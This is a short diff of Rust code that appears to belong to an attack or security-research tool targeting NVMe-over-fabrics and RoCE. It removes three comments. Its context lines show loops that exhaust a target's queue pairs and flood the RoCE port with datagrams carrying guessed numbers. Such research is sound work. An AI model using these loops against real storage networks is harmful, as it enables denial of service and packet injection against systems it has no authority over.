@@ -63,7 +63,6 @@ pub enum Attack {
     Io,
 }
 
-/// NQN of a subsystem whose key is unknown to the attacker.
 const VAULT: &str = "nqn.2026-01.org.example:vault";
 
 /// Creates a file with a key for [`tables`].
@@ -186,7 +185,6 @@ impl Attacker {
         };
         let request = RequestData::new(0, 32, 31, 0);
         for _ in 0..REQUESTS {
-            // Connecting fails while all queue pairs are in use.
             let begun = endpoint.connect(&options, request.as_bytes()).is_ok();
             self.begun += u64::from(begun);
         }
@@ -213,7 +211,6 @@ impl Attacker {
             let [_, number @ ..] = guess.to_be_bytes();
             datagram[..5].copy_from_slice(&[SEND_ONLY, 0, 0xff, 0xff, 0]);
             datagram[5..8].copy_from_slice(&number);
-            // The kernel may drop datagrams, so errors are ignored.
             let _ = socket.send_to(&datagram, (self.remote.ip(), ROCE_PORT));
             self.begun += 1;
         }
